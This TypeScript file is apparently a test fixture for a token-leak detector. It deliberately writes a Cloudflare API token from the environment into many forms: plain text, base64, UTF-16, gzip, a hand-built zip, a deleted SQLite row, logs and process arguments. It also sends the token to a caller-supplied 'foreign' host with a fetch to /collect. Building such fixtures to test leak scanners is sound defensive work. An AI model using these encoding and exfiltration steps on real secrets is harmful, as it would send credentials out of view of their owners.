// A program that leaks a token in every place there is, so that token-leak.test.ts knows its search to see.
import { execFileSync, spawn } from 'node:child_process';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { setTimeout as wait } from 'node:timers/promises';
import { deflateRawSync, gzipSync } from 'node:zlib';

const token = process.env.CLOUDFLARE_API_TOKEN ?? '';
const [folder = '', foreign = ''] = process.argv.slice(2);
mkdirSync(folder, { recursive: true });

function leak(name: string, content: string | Buffer): void {
  writeFileSync(join(folder, name), content);
}

leak('plain.txt', `the token is ${token}.`);
leak('escaped.json', JSON.stringify({ nested: JSON.stringify({ token }) }));
leak('base64.txt', Buffer.from(`user:${token}:x`).toString('base64'));
leak('address.txt', `https://example.com/?key=${encodeURIComponent(token)}&x=1`);
leak('utf16.txt', Buffer.from(token, 'utf16le'));
leak('half.txt', token.slice(0, 20));
leak('packed.gz', gzipSync(`"${token}"`));
leak('archive.zip', zipOf('inside.txt', `in an archive: ${token}`));
leak('short-lived.txt', token);

const db = new DatabaseSync(join(folder, 'deleted-row.sqlite'));
db.exec('CREATE TABLE words (word TEXT)');
db.prepare('INSERT INTO words VALUES (?)').run(`kept ${token}`);
db.exec('DELETE FROM words');
db.close();

console.log(JSON.stringify({ message: token }));
console.error(`percent: ${encodeURIComponent(token)}`);

// Programs that live long enough to be seen on a busy machine, and do nothing with what they are given; the second inherits the environment.
const sleeper = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 9000)', '--', `--key=${token}`], {
  env: {},
});
execFileSync(process.execPath, ['-e', 'setTimeout(() => {}, 2500)']);
await fetch(`${foreign}/collect?token=${encodeURIComponent(token)}`, { headers: { 'x-key': btoa(token) } });
await wait(1500);
rmSync(join(folder, 'short-lived.txt'));
sleeper.kill();

function zipOf(name: string, text: string): Buffer {
  const packed = deflateRawSync(text);
  const header = Buffer.alloc(30);
  header.write('PK\x03\x04', 'latin1');
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(packed.length, 18);
  header.writeUInt32LE(text.length, 22);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, Buffer.from(name), packed]);
}
